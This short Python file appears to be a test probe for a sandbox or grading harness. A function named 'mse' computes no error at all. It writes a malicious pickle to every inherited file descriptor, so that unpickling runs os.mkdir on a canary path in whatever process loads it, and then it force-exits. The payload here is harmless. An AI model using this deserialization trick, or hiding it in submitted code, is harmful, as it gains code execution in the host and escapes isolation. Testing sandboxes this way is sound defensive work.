"""Send a pickle that runs code where it is loaded. Success: the canary file is there."""

import os
import pickle


class Trap:
    def __reduce__(self):
        return os.mkdir, (WORLD["canary"],)


def mse(t1, t2):
    payload = pickle.dumps(Trap())
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, len(payload).to_bytes(8, "little") + payload)
        except OSError:
            pass
    os._exit(0)
